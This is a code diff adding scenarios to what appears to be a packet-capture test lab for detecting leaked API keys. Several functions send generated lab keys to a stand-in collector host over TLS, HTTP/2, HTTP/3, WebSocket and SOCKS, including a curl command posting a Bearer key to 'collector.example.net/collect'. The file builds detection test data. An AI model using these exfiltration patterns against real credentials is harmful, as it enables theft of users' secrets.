@@ -1,13 +1,9 @@
 """What is recorded: one function a capture, named after its file. Each returns when its traffic is over."""
 
-import sys
 import time
-from pathlib import Path
 
-from lab import HERE
-
-CLIENTS = HERE / "clients"
-PYTHON = sys.executable
+from catalogue import CLIENTS, PYTHON, Recording, recording
+from lab import GATEWAY, HOSTS
 
 
 def jetbrains_plugin(lab, keys):
@@ -135,21 +131,93 @@ def loopback(lab, keys):
             API_KEY=keys.new("openai-project"))
 
 
-class recording:
-    """tcpdump runs while the block does; the lab knows which file."""
+HOST, COLLECTOR = "api.openai.com", "collector.example.net"
 
-    def __init__(self, lab, **options):
-        self.lab, self.options = lab, options
 
-    def __enter__(self):
-        self.capture = self.lab.record(self.lab.work / "recording.pcap", **self.options)
+def key_inside_tls(lab, keys):
+    lab.serve_with("secure_server.py", {"log": str(lab.requests), "certificates": [COLLECTOR]})
+    with recording(lab):
+        lab.run_client(
+            PYTHON, CLIENTS / "post_key.py", f"https://{COLLECTOR}/collect", API_KEY=keys.new("anthropic"),
+            SSLKEYLOGFILE=str(lab.key_log), REQUESTS_CA_BUNDLE=str(lab.work / "ca.pem"))
 
-    def __exit__(self, failure, *_):
-        if failure is None:
-            self.lab.stop_recording(self.capture)
+
+def key_inside_http2(lab, keys):
+    lab.serve_with("node_server.mjs", {"log": str(lab.requests), "certificate": COLLECTOR})
+    with recording(lab):
+        lab.run_client(
+            "node", f"--tls-keylog={lab.key_log}", CLIENTS / "http2.mjs", f"https://{COLLECTOR}", "parallel",
+            lab.work / "ca.pem", API_KEY=keys.new("anthropic"), NODE_NO_WARNINGS="1")
+
+
+def key_inside_http3(lab, keys):
+    lab.serve_with("h3_server.py", lab.requests, HOSTS[COLLECTOR], COLLECTOR)
+    with recording(lab):
+        lab.run_client(
+            PYTHON, CLIENTS / "http3.py", COLLECTOR, lab.work / "ca.pem", lab.key_log, API_KEY=keys.new("anthropic"))
+
+
+def websocket_key(lab, keys):
+    lab.serve_with("websocket_server.py", lab.requests, "443", COLLECTOR)
+    with recording(lab):
+        lab.run_client(
+            PYTHON, CLIENTS / "websocket.py", f"wss://{COLLECTOR}/v1/realtime", API_KEY=keys.new("groq"),
+            SSLKEYLOGFILE=str(lab.key_log), SSL_CERT_FILE=str(lab.work / "ca.pem"))
+
+
+def own_provider_tls(lab, keys):
+    lab.serve_with("node_server.mjs", {"log": str(lab.requests), "certificate": HOST, "keylog": str(lab.key_log)})
+    url, key, authority = f"https://{HOST}/v1/chat/completions", keys.new("openai-project"), lab.work / "ca.pem"
+    with recording(lab):
+        lab.run_client("java", CLIENTS / "TLSClient.java", authority, url, API_KEY=key)
+        lab.run_client(
+            "curl", "-sf", "--http1.1", "--cacert", authority, url, "-H", f"Authorization: Bearer {key}",
+            "--json", '{"model":"gpt-4o-mini","messages":[]}')
+
+
+def dns_and_no_sni(lab, keys):
+    """Three names that are learned from the answers of a name server alone, the key belongs to the first."""
+    resolver, incident = GATEWAY, "models.litellm.cloud"
+    for name in (HOST, COLLECTOR, incident):
+        lab.serve_with("secure_server.py", {"log": str(lab.requests), "certificates": [name], "address": HOSTS[name]})
+    lab.serve_with("dns_server.py", {
+        HOST: [["CNAME", "edge.example.net"]],
+        "edge.example.net": [["A", HOSTS[HOST]], ["AAAA", "2001:db8::10"], ["HTTPS", "h2,http/1.1"]],
+        COLLECTOR: [["A", HOSTS[COLLECTOR]], ["TXT", "v=spf1 -all"], ["HTTPS", "h3,h2"]],
+        incident: [["A", HOSTS[incident]]],
+    }, resolver)
+    with recording(lab):
+        dig = ["dig", "+tries=1", "+time=5", f"@{resolver}"]
+        lab.run_client(*dig, HOST, "HTTPS", COLLECTOR, "TXT", "no-such-name.example.net", "A")
+        lab.run_client(*dig, "+tcp", "+noedns", COLLECTOR, "HTTPS", HOST, "AAAA")
+        with lab.resolving_by(resolver):
+            for name, form in ((HOST, "openai-project"), (COLLECTOR, "anthropic"), (incident, None)):
+                lab.run_client(
+                    PYTHON, CLIENTS / "no_sni.py", name, "/v1/chat/completions", SSLKEYLOGFILE=str(lab.key_log),
+                    API_KEY=keys.new(form) if form else "none")
+
+
+def socks_tls(lab, keys):
+    lab.serve_with("secure_server.py", {"log": str(lab.requests), "certificates": [COLLECTOR]})
+    lab.serve_with("proxy.py", lab.requests, "1080")
+    with recording(lab):
+        lab.run_client(
+            "curl", "-sf", "--socks5-hostname", "proxy.corp.example:1080", "--cacert", lab.work / "ca.pem",
+            f"https://{COLLECTOR}/collect", "-H", f"Authorization: Bearer {keys.new('openai-legacy')}", "--json", "{}",
+            SSLKEYLOGFILE=str(lab.key_log))
+
+
+def named(scenario, *needs, **options) -> Recording:
+    return Recording(scenario.__name__.replace("_", "-"), scenario, needs, **options)
 
 
 SCENARIOS = [
-    jetbrains_plugin, telnyx_upload, litellm_upload_tls, plaintext_openai, gzip_leak, base64_leak, openai_tls,
-    clean_developer, request_burst, key_exposure, gateway, split_key, loopback,
+    named(jetbrains_plugin, "java"), named(telnyx_upload, "tar"), named(litellm_upload_tls, "tar"),
+    named(plaintext_openai, "requests"), named(gzip_leak, "requests"), named(base64_leak, "node"),
+    named(openai_tls, "requests", "java"), named(clean_developer, "pip", "npm", "git", "apt-get"),
+    named(request_burst, "requests"), named(key_exposure), named(gateway, "node"), named(split_key),
+    named(loopback, "requests"), named(key_inside_tls, "requests"),
+    named(key_inside_http2, "node", "editcap", secrets_inside=True), named(key_inside_http3, "aioquic"),
+    named(websocket_key, "websockets"), named(own_provider_tls, "java", "node"), named(dns_and_no_sni, "dig"),
+    named(socks_tls),
 ]
